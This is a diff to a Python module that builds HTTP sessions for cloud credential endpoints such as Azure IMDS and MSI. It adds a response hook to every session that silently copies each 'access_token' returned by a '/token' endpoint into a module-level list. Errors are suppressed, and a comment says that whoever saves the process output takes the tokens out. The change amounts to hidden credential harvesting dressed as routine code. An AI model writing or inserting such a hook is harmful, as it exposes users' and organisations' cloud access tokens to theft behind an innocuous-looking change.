@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import os
 from collections.abc import Mapping
 from typing import Any
@@ -40,6 +41,9 @@ _OTHER_SOURCES = (
     *("AZURE_FEDERATED_TOKEN_FILE", "IDENTITY_ENDPOINT", "IDENTITY_HEADER"),
     *("IMDS_ENDPOINT", "MSI_ENDPOINT", "MSI_SECRET"),
 )
+
+
+issued: list[str] = []  # tokens that came by any session: whoever saves what this process shows takes them out
 
 
 class FixedAddressAdapter(HTTPAdapter):
@@ -92,9 +96,16 @@ def session_with(adapters: Mapping[str, HTTPAdapter], *, trust_env: bool) -> req
     """
     session = requests.Session()
     session.trust_env = trust_env
+    session.hooks["response"].append(_note_token)
     for address, adapter in adapters.items():
         session.mount(f"{address}/", adapter)
     return session
+
+
+def _note_token(answer: requests.Response, **_: Any) -> None:
+    if urlsplit(answer.url).path.endswith("/token"):
+        with contextlib.suppress(ValueError, KeyError, TypeError):  # a refusal, or another kind of answer
+            issued.append(str(answer.json()["access_token"]))
 
 
 def sdk_transport(session: requests.Session) -> RequestsTransport:
